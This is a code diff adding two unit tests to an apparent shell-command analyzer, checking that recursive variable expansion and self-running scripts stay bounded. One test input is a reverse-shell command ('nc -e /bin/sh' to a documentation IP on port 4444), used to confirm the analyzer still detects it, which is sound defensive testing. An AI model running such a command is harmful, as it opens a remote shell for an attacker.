@@ -860,6 +860,26 @@ def test_nested_while_read_loops_stay_within_the_command_budget():
     assert MAX_COMMANDS // 2 - 16 <= len(cmds) <= MAX_COMMANDS // 2 + 16  # (MAX_LOOP_COMMANDS)
 
 
+def test_a_value_read_as_a_command_line_cannot_grow_the_reading_without_bound():
+    """`$P` whose value names $P (an unbalanced quote keeps the `$(` open) is read as a command line,
+    and its own $P again at each level: a 32-byte text made 1,400 commands. The lines a walk reads
+    from variables are bounded by the text's length; past that, an unreadable command says so."""
+    from vigiles.analysis.shell import UNREADABLE
+    cmds = reader.read('P=$(x")/"$P""$P" """)\nM=("')
+    assert len(cmds) < 100
+    assert [c.args for c in cmds if c.name == UNREADABLE] == [["more command lines held in variables than are read"]]
+    held = reader.read('c="nc -e /bin/sh 203.0.113.9 4444"; $c')  # an ordinary one is still read
+    assert [c.args for c in held if c.name == "nc"] == [["-e", "/bin/sh", "203.0.113.9", "4444"]]
+
+
+def test_a_script_that_runs_itself_is_read_once_on_each_path():
+    """It doubled at each level of MAX_DEPTH before: 19 bytes made 1,040 commands."""
+    cmds = reader.read('a>`echo "x|/">>/|/')
+    assert len(cmds) < 20 and {c.name for c in cmds} >= {"x", "/"}
+    again = reader.read("echo 'id; sh /tmp/a.sh' > /tmp/a.sh; sh /tmp/a.sh")
+    assert [c.via for c in again if c.name == "id"][-1] == ("sh", "script /tmp/a.sh")
+
+
 def test_an_unterminated_heredoc_holds_the_rest_of_the_text():
     """bash reads to the end of input as its body; nothing after it starts another heredoc."""
     from vigiles.analysis.shell import _heredoc_lists, _heredocs_renamed
